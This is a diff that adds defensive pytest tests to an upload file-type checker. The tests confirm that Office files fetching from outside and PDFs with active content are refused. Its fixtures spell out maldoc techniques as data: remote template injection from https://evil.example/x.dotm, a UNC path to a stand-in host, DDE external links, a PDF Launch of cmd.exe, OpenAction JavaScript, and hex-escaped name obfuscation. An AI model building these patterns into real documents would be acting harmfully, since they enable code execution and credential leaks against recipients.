@@ -1,7 +1,9 @@
 """Stored files: content decides, pairs in one file are refused, nothing is lost or left lying about."""
 
+import contextlib
 import io
 import os
+import random
 import re
 import struct
 import time
@@ -161,6 +163,131 @@ def test_names_inside_archives(name: str) -> None:
 )
 def test_macros_are_refused(data: bytes) -> None:
     assert isinstance(refused(data), file_types.HasMacros)
+
+
+PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def relations(kind: str, mode: str = ' TargetMode="External"', *, target: str = "https://evil.example/x.dotm") -> bytes:
+    one = f'<Relationship Id="rId1" Type="{kind}" Target="{target}"{mode}/>'
+    return f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}">{one}</Relationships>'.encode()
+
+
+@pytest.mark.parametrize(
+    ("kind", "name", "part"),
+    [
+        (DOCX, "word/_rels/settings.xml.rels", relations(f"{OFFICE}/attachedTemplate")),
+        (DOCX, "word/_rels/document.xml.rels", relations(f"{OFFICE}/image", target="\\\\evil\\x.png")),
+        (DOCX, "word/_rels/document.xml.rels", relations(f"{OFFICE}/oleObject", " TargetMode=' external '")),
+        (DOCX, "WORD/_RELS/x.xml.RELS", relations(f"{OFFICE}/frame")),
+        (DOCX, "word/_rels/settings.xml.rels", relations(f"{OFFICE}/attachedTemplate").decode().encode("utf-16")),
+        (DOCX, "word/_rels/x.xml.rels", relations(f"{OFFICE}/attachedTemplate").replace(b"External", b"Ext&#101;rnal")),
+        (PPTX, "ppt/slides/_rels/slide1.xml.rels", relations(f"{OFFICE}/video")),
+        (XLSX, "xl/externalLinks/_rels/externalLink1.xml.rels", relations(f"{OFFICE}/externalLinkPath")),
+        (XLSX, "xl/_rels/workbook.xml.rels", relations(f"{OFFICE}/externalLink", "", target="dde.xml")),
+    ],
+)
+def test_documents_that_fetch_from_elsewhere_are_refused(kind: str, name: str, part: bytes) -> None:
+    found = refused(office(kind, **{name: part}))
+    assert isinstance(found, file_types.FetchesMore)
+    assert "from elsewhere" in str(found.message)
+
+
+def test_links_and_parts_of_its_own_stay() -> None:
+    for name, part in (
+        ("word/_rels/document.xml.rels", relations(f"{OFFICE}/hyperlink")),
+        (
+            "word/_rels/document.xml.rels",
+            relations("http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink"),
+        ),
+        ("word/_rels/document.xml.rels", relations(f"{OFFICE}/image", "", target="media/image1.png")),
+        ("word/_rels/settings.xml.rels", relations(f"{OFFICE}/attachedTemplate", ' TargetMode="Internal"', target="x")),
+    ):
+        assert checked(office(**{name: part}), EVERYTHING)[0] == DOCX
+
+
+@pytest.mark.parametrize(
+    "part",
+    [
+        b"<Relationships",
+        b'<!DOCTYPE x [<!ENTITY e "External">]><Relationships><Relationship TargetMode="&e;"/></Relationships>',
+        bytes(file_types.MAX_RELATIONS + 1),
+    ],
+    ids=["cut", "entity", "long"],
+)
+def test_relations_that_cannot_be_read_are_refused(part: bytes) -> None:
+    assert isinstance(refused(office(**{"word/_rels/document.xml.rels": part})), files.FileDamaged)
+
+
+def pdf(objects: bytes) -> bytes:
+    return b"%PDF-1.7\n1 0 obj\n" + objects + b"\nendobj\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n"
+
+
+def packed(objects: bytes, kind: bytes = b"/ObjStm", line: bytes = b"\n") -> bytes:
+    body = zlib.compress(objects)
+    head = b"<</Type %b/N 1/First 4/Filter/FlateDecode/Length %d>>stream" % (kind, len(body))
+    return pdf(head + line + body + b"\nendstream")
+
+
+DEEDS = [
+    b"<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>",
+    b"<</OpenAction <</S /Launch /F (cmd.exe)>> >>",
+    b"<</OpenAction 2 0 R>>\nendobj\n2 0 obj\n<</S\n/JavaScript/JS 3 0 R>>",
+    b"<</S/J#61vaScript/JS(1)>>",
+    b"<</S/#4Aava#53cript/JS(1)>>",
+    b"<</Names<</JavaScript 5 0 R>>>>",
+    b"<</AA<</O 5 0 R>>>>",
+    b"<</AA 12 0 R>>",
+    b"<</#41A % a note\n << /WC 5 0 R>>>>",
+    b"<</Names<</EmbeddedFiles 5 0 R>>>>",
+    b"<</Type/EmbeddedFile/Length 0>>stream\n\nendstream",
+    b"<</Subtype/FileAttachment/FS 4 0 R>>",
+    b"<</S/Rendition/JS(1)>>",
+]
+
+
+@pytest.mark.parametrize("deed", DEEDS)
+def test_a_pdf_that_does_something_is_refused(deed: bytes) -> None:
+    for data in (pdf(deed), packed(b"1 0 " + deed), packed(deed, b"/Obj#53tm", b"\r\n")):
+        found = refused(data)
+        assert isinstance(found, file_types.DoesSomething)
+        assert "script" in str(found.message)
+
+
+@pytest.mark.parametrize(
+    "harmless",
+    [
+        b"<</OpenAction[3 0 R/XYZ null null 0]>>",
+        b"<</OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>",
+        b"<</OpenAction 7 0 R>>",
+        b"<</S/URI/URI(https://un.org)>>",
+        b"<</Font/AAAAAA+Noto/AA/Name/Launchpad true/JavaScripted/LaunchX>>",
+    ],
+)
+def test_a_pdf_that_only_opens_somewhere_is_taken(harmless: bytes) -> None:
+    for data in (pdf(harmless), packed(harmless)):
+        assert checked(data, EVERYTHING) == (PDF, data)
+
+
+def test_packed_pictures_of_a_pdf_are_no_deeds() -> None:
+    """Three letters come by chance in ten megabytes of a photograph."""
+    picture = random.Random(7).randbytes(9_000_000)
+    data = pdf(b"<</Subtype/Image>>stream\n" + picture + b"/AA x /AA/ \nendstream")
+    began = time.process_time()
+    assert checked(data, EVERYTHING)[0] == PDF
+    assert time.process_time() - began < 2
+
+
+def test_a_pdf_that_grows_or_wastes_time_is_refused() -> None:
+    assert "too large inside" in str(refused(packed(bytes(file_types.MAX_OBJECTS + 1))).message)
+    for waste in (b"/ObjStm " * 1_000_000, b"/AA" * 3_000_000, b"/AA%" * 2_000_000, b"%/AA 1 \n" * 900_000):
+        began = time.process_time()
+        with contextlib.suppress(files.FileDamaged):
+            checked(pdf(waste), EVERYTHING)
+        with contextlib.suppress(files.FileDamaged):
+            checked(packed(waste * 3), EVERYTHING)
+        assert time.process_time() - began < 3
 
 
 def test_archives_that_grow_are_refused() -> None:
